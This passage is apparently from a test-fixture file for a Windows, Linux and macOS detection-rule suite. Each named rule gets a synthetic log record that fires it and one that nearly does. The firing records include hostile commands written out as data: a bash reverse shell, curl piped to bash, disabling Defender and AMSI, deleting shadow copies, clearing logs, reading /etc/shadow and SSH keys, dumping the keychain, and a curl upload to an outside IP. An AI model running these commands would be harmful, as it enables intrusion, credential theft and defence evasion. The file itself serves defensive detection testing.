        ran("schtasks.exe", "schtasks /create /s fs02 /tn t /tr myapp.exe /sc daily"),
        ran("schtasks.exe", "schtasks /create /tn t /tr myapp.exe /sc daily"),
    ),
    "windows_defender_weakened_by_script": (
        block("Set-MpPreference -DisableRealtimeMonitoring $true"),
        block("Set-MpPreference -ScanScheduleDay 2"),
    ),
    "windows_defender_feature_disabled_by_command": (
        ran("powershell.exe", "powershell Set-MpPreference -EnableControlledFolderAccess Disabled"),
        ran("powershell.exe", "powershell Set-MpPreference -EnableControlledFolderAccess Enabled"),
    ),
    "windows_shadow_copies_deleted_by_script": (
        block("Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"),
        block("Get-WmiObject Win32_Shadowcopy | Select-Object ID"),
    ),
    "windows_service_changed_by_script": (
        block("Set-ItemProperty -path HKLM:\\System\\x\\services\\x -name ImagePath -value c"),
        block(
            "Get-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\x -name ImagePath"
        ),
    ),
    "windows_remote_shell_server_installed": (
        block("Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0"),
        block("Get-WindowsCapability -Online -Name OpenSSH.Server*"),
    ),
    "windows_powershell_code_hidden_in_line": (
        ran(
            "powershell.exe",
            "powershell -c &([scriptblock]::create((New-Object IO.GzipStream($a))))",
        ),
        ran("powershell.exe", "powershell -c Get-Process"),
    ),
    "windows_loader_of_system_starts_program": (
        ran("rundll32.exe", "rundll32 zipfldr.dll,RouteTheCall c:\\t\\a.exe"),
        ran("rundll32.exe", "rundll32 zipfldr.dll,CreateZip c:\\t\\a.zip"),
    ),
    "windows_helper_program_starts_shell": (
        ran("cmd.exe", "cmd.exe /c a.exe", parent="C:\\Windows\\hh.exe"),
        ran("notepad.exe", "notepad.exe", parent="C:\\Windows\\hh.exe"),
    ),
    "windows_renamed_script_loader": (
        ran("C:\\ProgramData\\jabber.exe", "jabber.exe /s a", OriginalFileName="REGSVR32.EXE"),
        ran("regsvr32.exe", "regsvr32.exe /s a.dll", OriginalFileName="REGSVR32.EXE"),
    ),
    "windows_loader_fetches_by_address": (
        ran("mshta.exe", "C:\\Windows\\System32\\mshta.exe -Embedding", parent="svchost.exe"),
        ran("mshta.exe", "mshta.exe C:\\Windows\\System32\\tool.hta", parent="svchost.exe"),
    ),
    "windows_port_forwarded": (
        of(13, "netsh.exe", TargetObject="HKLM\\x\\services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/80"),
        of(13, "netsh.exe", TargetObject="HKLM\\x\\services\\PortProxy\\v6tov6"),
    ),
    "windows_server_connects_to_own_remote_desktop": (
        of(3, _W3WP, DestinationIp="127.0.0.1", DestinationPort="3389"),
        of(3, _W3WP, DestinationIp="127.0.0.1", DestinationPort="1433"),
    ),
    "windows_registry_weakens_authentication": (
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Control\\Lsa\\RunAsPPL",
            Details="DWORD (0x00000000)",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Control\\Lsa\\RunAsPPL",
            Details="DWORD (0x00000001)",
        ),
    ),
    "windows_office_protection_lowered": (
        of(
            13,
            "reg.exe",
            TargetObject="HKU\\x\\Office\\16.0\\Excel\\Security\\AccessVBOM",
            Details="DWORD (0x00000001)",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKU\\x\\Office\\16.0\\Excel\\Security\\AccessVBOM",
            Details="DWORD (0x00000000)",
        ),
    ),
    "windows_printer_loads_library": (
        of(
            13,
            "spoolsv.exe",
            TargetObject="HKLM\\x\\CurrentVersion\\Print\\Printers\\P\\CopyFiles\\A\\Module",
            Details="C:\\Windows\\System32\\spool\\drivers\\x64\\4\\a.dll",
        ),
        of(
            13,
            "spoolsv.exe",
            TargetObject="HKLM\\x\\CurrentVersion\\Print\\Printers\\P\\CopyFiles\\ICM\\Module",
            Details="mscms.dll",
        ),
    ),
    "windows_trust_provider_replaced": (
        of(
            13,
            "regsvr32.exe",
            TargetObject="HKLM\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllPut\\{1}\\Dll",
            Details="C:\\Users\\ann\\sip.dll",
        ),
        of(
            13,
            "regsvr32.exe",
            TargetObject="HKLM\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllPut\\{1}\\Dll",
            Details="WINTRUST.DLL",
        ),
    ),
    "windows_registry_link_made": (
        of(13, "C:\\Users\\ann\\a.exe", TargetObject="HKLM\\x\\DEMO\\SymbolicLinkValue"),
        of(13, "services.exe", TargetObject="HKLM\\x\\DEMO\\SymbolicLinkValue"),
    ),
    "windows_traces_of_user_removed": (
        of(
            12,
            "regedit.exe",
            EventType="DeleteKey",
            TargetObject="HKU\\S-1-5-21-1\\x\\Explorer\\RunMRU",
        ),
        of(
            12,
            "regedit.exe",
            EventType="DeleteKey",
            TargetObject="HKU\\S-1-5-21-1\\x\\Explorer\\FileExts",
        ),
    ),
    "windows_share_added": (
        of(
            13,
            "svchost.exe",
            TargetObject="HKLM\\x\\Services\\LanmanServer\\Shares\\st",
            Details="Binary Data",
        ),
        of(
            13,
            "svchost.exe",
            TargetObject="HKLM\\x\\Services\\LanmanServer\\Shares\\Security\\st",
            Details="Binary Data",
        ),
    ),
    "windows_pipe_of_privilege_tool": (
        of(17, "C:\\temp\\a.exe", EventType="CreatePipe", PipeName="\\1c4d\\pipe\\srvsvc"),
        of(17, "spoolsv.exe", EventType="CreatePipe", PipeName="\\spoolss"),
    ),
    "windows_administrative_share_connected": (
        ran("net.exe", "net use m: \\\\srv1\\c$ /USER:corp\\eve"),
        ran("net.exe", "net use m: \\\\srv1\\data"),
    ),
    "windows_traffic_recorded": (
        ran("pktmon.exe", "pktmon filter add -p 80"),
        ran("pktmon.exe", "pktmon status"),
    ),
    "windows_linux_subsystem_enabled": (
        ran(
            "dism.exe",
            "dism /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux",
        ),
        ran(
            "dism.exe",
            "dism /online /disable-feature /featurename:Microsoft-Windows-Subsystem-Linux",
        ),
    ),
    "windows_printer_of_attacker_installed": (
        security(6416, ClassName="PrintQueue", DeviceDescription="\\\\fs\\Kiwi Legit Printer"),
        security(6416, ClassName="PrintQueue", DeviceDescription="\\\\fs\\Floor 2"),
    ),
    "windows_program_in_name_of_system_started_alone": (
        ran("wermgr.exe", "C:\\Windows\\system32\\wermgr.exe", parent="rundll32.exe"),
        ran("wermgr.exe", "C:\\Windows\\system32\\wermgr.exe -upload", parent="svchost.exe"),
    ),
    "windows_service_host_starts_shell": (
        ran("cmd.exe", "C:\\Windows\\system32\\cmd.exe", parent="svchost.exe"),
        ran("cmd.exe", "cmd.exe /c C:\\Tools\\nightly.cmd", parent="svchost.exe"),
    ),
    "windows_driver_of_abuse_loaded": (
        sysmon(6, ImageLoaded="C:\\Windows\\System32\\drivers\\RwDrv.sys", Signed="true"),
        sysmon(6, ImageLoaded="C:\\Windows\\System32\\drivers\\disk.sys", Signed="true"),
    ),
    "windows_known_attack_tool_named": (
        ran("C:\\t\\mimikatz.exe", "mimikatz"),
        ran("C:\\t\\minikatze.exe", "minikatze"),
    ),
    "windows_policy_pending_written": (
        of(
            13,
            "regedit.exe",
            TargetObject="HKU\\x\\IEAK\\GroupPolicy\\PendingGPOs\\Path1",
            Details="a.inf",
        ),
        of(13, "regedit.exe", TargetObject="HKU\\x\\IEAK\\GroupPolicy\\Other", Details="a.inf"),
    ),
    "windows_password_of_archive_stored": (
        ran(
            "cmdkey.exe",
            "cmdkey /generic:Microsoft_Windows_Shell_ZipFolder:filename=C:\\t\\a.zip /pass:x",
        ),
        ran("cmdkey.exe", "cmdkey /list"),
    ),
    "windows_domain_trust_added": (
        security(4706, SubjectUserName="eve", DomainName="evil.invalid"),
        security(4707, SubjectUserName="eve", DomainName="evil.invalid"),
    ),
    "windows_certificate_authority_changed": (
        security(4882, SubjectUserName="eve"),
        security(4888, SubjectUserName="eve"),
    ),
    "windows_clock_changed_by_user": (
        security(4616, SubjectUserSid="S-1-5-21-1-2", ProcessName="C:\\Windows\\System32\\cmd.exe"),
        security(4616, SubjectUserSid="S-1-5-19", ProcessName="C:\\Windows\\System32\\svchost.exe"),
    ),
    "windows_event_logs_cleared_by_script": (
        block("Clear-EventLog -LogName Security"),
        block("Get-EventLog -LogName Security"),
    ),
    "windows_lsass_read_in_security_log": (
        security(4663, ObjectName="\\x\\lsass.exe", AccessMask="0x10", ProcessName="C:\\t\\a.exe"),
        security(
            4663, ObjectName="\\x\\lsass.exe", AccessMask="0x1000", ProcessName="C:\\t\\a.exe"
        ),
    ),
    "windows_lsass_opened_through_logon_service": (
        sysmon(
            10,
            SourceProcessGUID=_GUID,
            SourceProcessId="4312",
            SourceImage="C:\\Windows\\System32\\svchost.exe",
            TargetProcessGUID=_GUID.replace("0c01", "0c02"),
            TargetProcessId="712",
            TargetImage="C:\\Windows\\System32\\lsass.exe",
            GrantedAccess="0x14c0",
            CallTrace="C:\\Windows\\System32\\seclogon.dll+128f",
        ),
        opened("svchost.exe", "0x14c0"),
    ),
    "windows_directory_database_opened": (
        log("Application", 326, "ESENT", Data="lsass NTDS C:\\Windows\\Temp\\x\\ntds.dit"),
        log("Application", 326, "ESENT", Data="lsass NTDS C:\\Windows\\NTDS\\ntds.dit"),
    ),
    "windows_browser_secrets_read": (
        security(4663, ObjectName="C:\\x\\Login Data", ProcessName="C:\\t\\a.exe"),
        security(4663, ObjectName="C:\\x\\Login Data", ProcessName="C:\\x\\chrome.exe"),
    ),
    "windows_credential_store_backed_up": (
        security(5376, SubjectUserName="eve"),
        security(5379, SubjectUserName="eve"),
    ),
    "windows_remote_desktop_through_tunnel": (
        security(4624, LogonType="10", IpAddress="127.0.0.1", TargetUserName="ann"),
        security(4624, LogonType="10", IpAddress="10.0.0.7", TargetUserName="ann"),
    ),
    "windows_service_name_added_to_user": (
        security(
            5136,
            SubjectUserName="eve",
            AttributeLDAPDisplayName="servicePrincipalName",
            ObjectClass="user",
            OperationType="%%14674",
        ),
        security(
            5136,
            SubjectUserName="eve",
            AttributeLDAPDisplayName="servicePrincipalName",
            ObjectClass="computer",
            OperationType="%%14674",
        ),
    ),
    "windows_scheduled_task_writes_output": (
        security(
            4698,
            TaskName="\\x",
            TaskContent="<Arguments>/C whoami &gt; %windir%\\Temp\\a.tmp 2&gt;&amp;1",
        ),
        security(4698, TaskName="\\x", TaskContent="<Arguments>/C whoami"),
    ),
    "windows_hidden_account_in_registry": (
        of(
            13,
            "lsass.exe",
            TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\eve$\\(Default)",
        ),
        of(
            13,
            "lsass.exe",
            TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\eve\\(Default)",
        ),
    ),
    "windows_installer_fetches_by_address": (
        ran("msiexec.exe", "msiexec /q /i http://x.invalid/a.msi"),
        ran("msiexec.exe", "msiexec /q /i C:\\t\\a.msi"),
    ),
    "windows_thread_started_by_program_of_user": (
        sysmon(
            8,
            SourceProcessGuid=_GUID,
            SourceImage="C:\\Users\\ann\\a.exe",
            TargetImage="C:\\Windows\\explorer.exe",
        ),
        sysmon(
            8,
            SourceProcessGuid=_GUID,
            SourceImage="C:\\Program Files\\A\\a.exe",
            TargetImage="C:\\Windows\\explorer.exe",
        ),
    ),
    "windows_attack_script_named": (
        block("Invoke-Mimikatz -DumpCreds"),
        block("Get-Help about_Functions"),
    ),
    "windows_password_asked_by_script": (
        block("$c=$host.ui.PromptForCredential('x','','','');$c.GetNetworkCredential().Password"),
        block("$c=$host.ui.PromptForCredential('x','','','')"),
    ),
    "windows_background_transfer_by_script": (
        block("Start-BitsTransfer -Source http://x.invalid/a.exe -Destination C:\\t\\a.exe"),
        block("Start-BitsTransfer -Source \\\\srv\\share\\a.exe -Destination C:\\t\\a.exe"),
    ),
    "windows_browser_fetches_by_command": (
        ran(
            "C:\\x\\msedge.exe",
            "msedge --headless --dump-dom http://x.invalid/a",
            parent="cmd.exe",
        ),
        ran("C:\\x\\msedge.exe", "msedge http://x.invalid/a", parent="cmd.exe"),
    ),
    "windows_scheduled_task_file_hidden": (
        of(
            12,
            "reg.exe",
            EventType="DeleteValue",
            TargetObject="HKLM\\x\\Schedule\\TaskCache\\Tree\\a\\SD",
        ),
        of(
            12,
            "reg.exe",
            EventType="DeleteValue",
            TargetObject="HKLM\\x\\Schedule\\TaskCache\\Tree\\a\\Id",
        ),
    ),
    "windows_logon_relayed_with_ticket": (
        security(
            4624,
            LogonType="3",
            AuthenticationPackageName="Kerberos",
            IpAddress="127.0.0.1",
            TargetUserSid="S-1-5-21-1-2-3-500",
        ),
        security(
            4624,
            LogonType="3",
            AuthenticationPackageName="Kerberos",
            IpAddress="10.0.0.7",
            TargetUserSid="S-1-5-21-1-2-3-500",
        ),
    ),
    "windows_logon_script_of_user_set": (
        of(
            13,
            "reg.exe",
            TargetObject="HKU\\S-1-5-21-1\\Environment\\UserInitMprLogonScript",
            Details="a",
        ),
        of(13, "reg.exe", TargetObject="HKU\\S-1-5-21-1\\Environment\\Path", Details="a"),
    ),
    "windows_script_scanner_disabled": (
        ran("reg.exe", "reg delete HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781} /f"),
        ran("reg.exe", "reg query HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers"),
    ),
    "windows_core_protection_disabled": (
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Control\\Lsa\\LsaCfgFlags",
            Details="DWORD (0x00000000)",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Control\\Lsa\\LsaCfgFlags",
            Details="DWORD (0x00000001)",
        ),
    ),
    "windows_name_written_backwards": (
        ran("C:\\t\\a.exe", "a.exe inv\u202excod.exe"),
        ran("C:\\t\\a.exe", "a.exe invexcod.exe"),
    ),
    "windows_file_with_deceptive_name": (
        of(11, "a.exe", TargetFilename="C:\\Users\\ann\\Downloads\\invoice.pdf.lnk"),
        of(11, "a.exe", TargetFilename="C:\\Users\\ann\\x\\Windows\\Recent\\invoice.pdf.lnk"),
    ),
    "windows_console_without_window": (
        ran("conhost.exe", "conhost.exe --headless powershell -f a.ps1"),
        ran("conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
    ),
    "windows_account_hidden_from_logon_screen": (
        ran("reg.exe", 'reg add "HKLM\\x\\Winlogon\\SpecialAccounts\\UserList" /v eve /d 0'),
        ran("reg.exe", 'reg query "HKLM\\x\\Winlogon\\SpecialAccounts\\UserList"'),
    ),
    "windows_attack_tool_written": (
        of(11, "a.exe", TargetFilename="C:\\t\\ticket.kirbi"),
        of(11, "a.exe", TargetFilename="C:\\t\\ticket.pdf"),
    ),
    "windows_process_of_credentials_looked_up": (
        ran("cmd.exe", 'cmd /c tasklist | findstr "lsass"'),
        ran("cmd.exe", 'cmd /c tasklist | findstr "chrome"'),
    ),
    "windows_service_starts_in_safe_mode": (
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Control\\SafeBoot\\Minimal\\a\\(Default)",
            Details="Service",
        ),
        of(
            13,
            "msiexec.exe",
            TargetObject="HKLM\\x\\Control\\SafeBoot\\Minimal\\a\\(Default)",
            Details="Service",
        ),
    ),
    "windows_copy_client_starts_command": (
        ran("C:\\x\\ssh.exe", "ssh -o ProxyCommand=powershell.exe u@127.0.0.1"),
        ran("C:\\x\\ssh.exe", "ssh -J gate u@10.0.0.1"),
    ),
    "windows_browser_extension_loaded_by_command": (
        ran("C:\\x\\chrome.exe", "chrome --load-extension=C:\\t\\a", parent="powershell.exe"),
        ran("C:\\x\\chrome.exe", "chrome https://x.invalid", parent="powershell.exe"),
    ),
}

UNIX: dict[str, tuple[Sent, Sent]] = {
    "linux_reverse_shell": (
        executed("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        executed("/usr/bin/nc", "nc -z -e5 10.0.0.1 22"),
    ),
    "linux_server_starts_shell": (
        executed("/usr/bin/dash", "sh -c whoami", parent="/usr/sbin/nginx"),
        executed("/usr/bin/dash", "sh -c whoami", parent="/usr/sbin/sshd"),
    ),
    "linux_download_piped_to_shell": (
        executed("/usr/bin/bash", "bash -c curl -fsSL http://x.invalid/a | bash"),
        executed("/usr/bin/bash", "bash -c curl -fsSL http://x.invalid/a | jq ."),
    ),
    "linux_decoded_text_piped_to_shell": (
        executed("/usr/bin/bash", "bash -c echo aWQK | base64 -d | sh"),
        executed("/usr/bin/bash", "bash -c echo aWQK | base64 -d | wc"),
    ),
    "linux_login_keys_written": (
        written("/usr/bin/bash", "/root/.ssh/authorized_keys"),
        written("/usr/bin/bash", "/root/.ssh/known_hosts"),
    ),
    "linux_cron_job_written": (
        written("/usr/bin/bash", "/etc/cron.d/sync"),
        written("/usr/bin/dpkg", "/etc/cron.d/sync"),
    ),
    "linux_preload_file_written": (
        written("/usr/bin/bash", "/etc/ld.so.preload"),
        written("/usr/bin/bash", "/etc/ld.so.cache"),
    ),
    "linux_hidden_program_in_temporary_folder": (
        executed("/var/tmp/.cache/kworkerd", "kworkerd"),
        executed("/var/tmp/install/setup", "setup"),
    ),
    "linux_miner_started": (
        executed("/opt/a", "a -o pool.invalid:3333"),
        executed("/opt/a", "a -o thread-pool.log"),
    ),
    "linux_shell_history_removed": (
        removed("/usr/bin/rm", "/root/.bash_history"),
        removed("/usr/bin/rm", "/root/.bashrc"),
    ),
    "linux_shell_history_switched_off": (
        executed("/usr/bin/bash", "bash -c unset HISTFILE"),
        executed("/usr/bin/bash", "bash -c echo HISTFILE"),
    ),
    "linux_service_unit_written": (
        written("/usr/bin/python3.11", "/etc/systemd/system/a.service"),
        written("/usr/bin/dpkg", "/etc/systemd/system/a.service"),
    ),
    "linux_password_file_read": (
        executed("/usr/bin/cat", "cat /etc/shadow"),
        executed("/usr/bin/cat", "cat /etc/passwd"),
    ),
    "linux_program_made_root": (
        executed("/usr/bin/chmod", "chmod u+s /tmp/sh"),
        executed("/usr/bin/chmod", "chmod 755 /tmp/sh"),
    ),
    "linux_kernel_module_inserted": (
        executed("/usr/sbin/insmod", "insmod /tmp/a.ko"),
        executed("/usr/sbin/insmod", "insmod /lib/modules/6.1/a.ko"),
    ),
    "linux_protection_stopped": (
        executed("/usr/bin/systemctl", "systemctl stop auditd"),
        executed("/usr/bin/systemctl", "systemctl stop nginx"),
    ),
    "linux_audit_rules_removed": (
        audited("CONFIG_CHANGE", op="remove_rule", key="exec", list=4, res=1),
        audited("CONFIG_CHANGE", op="add_rule", key="exec", list=4, res=1),
    ),
    "linux_container_left": (
        executed("/usr/bin/nsenter", "nsenter -t 1 -m -u sh"),
        executed("/usr/bin/nsenter", "nsenter -t 1234 -n ip a"),
    ),
    "linux_web_page_written_by_server": (
        written("/usr/sbin/php-fpm8.2", "/var/www/html/a.php"),
        written("/usr/sbin/php-fpm8.2", "/var/www/html/cache/a.php"),
    ),
    "linux_login_script_written": (
        written("/usr/bin/bash", "/etc/profile.d/sync.sh"),
        written("/usr/bin/dpkg", "/etc/profile.d/sync.sh"),
    ),
    "linux_sudo_rights_written": (
        written("/usr/bin/bash", "/etc/sudoers.d/eve"),
        written("/usr/sbin/visudo", "/etc/sudoers.d/eve"),
    ),
    "linux_job_added_by_command": (
        executed("/usr/bin/bash", "bash -c echo x >> /root/.bashrc"),
        executed("/usr/bin/bash", "bash -c echo x >> /tmp/log"),
    ),
    "linux_account_added_as_root": (
        executed("/usr/sbin/useradd", "useradd -o -u 0 -g 0 eve"),
        executed("/usr/sbin/useradd", "useradd -u 1004 eve"),
    ),
    "linux_capability_given_to_program": (
        executed("/usr/sbin/setcap", "setcap cap_setuid+ep /usr/bin/python3"),
        executed("/usr/sbin/setcap", "setcap cap_net_raw+ep /usr/bin/ping"),
    ),
    "linux_file_made_unchangeable": (
        executed("/usr/bin/chattr", "chattr +i /etc/cron.d/a"),
        executed("/usr/bin/chattr", "chattr -i /etc/cron.d/a"),
    ),
    "linux_network_explored": (
        executed("/usr/sbin/arp", "arp -a"),
        executed("/usr/sbin/arp", "arp -d 10.0.0.1"),
    ),
    "linux_secrets_searched": (
        executed("/usr/bin/cat", "cat /home/ann/.ssh/id_rsa"),
        executed("/usr/bin/cat", "cat /home/ann/.ssh/id_rsa.pub"),
    ),
    "linux_program_runs_from_memory": (
        executed("/dev/shm/kworker", "kworker"),
        executed("/opt/shm/kworker", "kworker"),
    ),
    "linux_shell_escaped_from_tool": (
        executed("/usr/bin/python3.11", "python3 -c import pty;pty.spawn('/bin/bash')"),
        executed("/usr/bin/find", "find / -name a -exec ls {} ;"),
    ),
    "macos_password_asked_by_script": (
        launched("/usr/bin/osascript", "osascript -e display dialog x with hidden answer"),
        launched("/usr/bin/osascript", "osascript -e display dialog ready"),
    ),
    "macos_script_runs_shell_command": (
        launched("/usr/bin/osascript", 'osascript -e do shell script "curl x.invalid"'),
        launched("/usr/bin/osascript", 'osascript -e do shell script "date"'),
    ),
    "macos_keychain_dumped": (
        launched("/usr/bin/security", "security dump-keychain -d login.keychain-db"),
        launched("/usr/bin/security", "security find-generic-password -s WiFi"),
    ),
    "macos_browser_secrets_copied": (
        launched("/bin/cp", f"cp {_CHROME}/Cookies /tmp/c"),
        launched("/bin/cp", f"cp {_CHROME}/Bookmarks /tmp/c"),
    ),
    "macos_launch_agent_written": (
        saved("/private/tmp/a", "/Users/ann/Library/LaunchAgents/com.a.plist"),
        saved("/Applications/A.app/A", "/Users/ann/Library/LaunchAgents/com.a.plist"),
    ),
    "macos_quarantine_removed": (
        launched("/usr/bin/xattr", "xattr -d com.apple.quarantine a.app"),
        launched("/usr/bin/xattr", "xattr -p com.apple.quarantine a.app"),
    ),
    "macos_protection_disabled": (
        launched("/usr/sbin/spctl", "spctl --master-disable"),
        launched("/usr/sbin/spctl", "spctl --status"),
    ),
    "macos_archive_sent_by_command": (
        launched("/usr/bin/curl", "curl -X POST -F file=@/tmp/mn.zip http://203.0.113.9/j"),
        launched("/usr/bin/curl", "curl -O https://x.invalid/mn.zip"),
    ),
}

CASES = WINDOWS | UNIX
"""Maps the name of a rule's file to a record that fires the rule and a record that nearly does."""
